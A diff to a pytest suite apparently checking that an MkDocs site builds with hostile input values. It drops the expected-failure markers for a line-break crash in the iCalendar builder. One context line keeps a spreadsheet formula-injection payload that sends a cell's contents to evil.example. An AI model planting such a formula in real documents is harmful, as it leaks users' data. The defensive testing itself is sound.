@@ -59,15 +59,7 @@ PAYLOADS = {
     "spreadsheet-formula": '=HYPERLINK("https://evil.example/?leak="&A1,"Open") @SUM(1+1)*cmd',
 }
 SLUGS = {name: re.sub(r"[^a-z0-9]+", "-", name) for name in PAYLOADS}
-# Open on main at 15:10 (issue 9): a line break in a case caption makes the
-# iCalendar builder raise, so mkdocs build crashes and no page carries these values.
-LINE_BREAK_CRASH = (
-    "issue 9: a value with a line break (here a case caption) crashes mkdocs build in the iCalendar builder"
-)
-PAYLOAD_PARAMS = [
-    pytest.param(name, marks=pytest.mark.xfail(strict=True, reason=LINE_BREAK_CRASH)) if "\n" in payload else name
-    for name, payload in PAYLOADS.items()
-]
+PAYLOAD_PARAMS = list(PAYLOADS)
 HOSTILE_DAY, FOLLOW_UP_DAY = "2020-03-02", "2020-03-16"
 
 
@@ -200,7 +192,6 @@ def built_with(site: ValuesSite, name: str) -> None:
         pytest.fail(f"the site does not build with this value:\n{site.failure}", pytrace=False)
 
 
-@pytest.mark.xfail(strict=True, reason=LINE_BREAK_CRASH)
 def test_the_site_builds_with_every_hostile_value(values_site: ValuesSite) -> None:
     assert values_site.failure == "", "a value made MkDocs fail (shown at the end)"
 
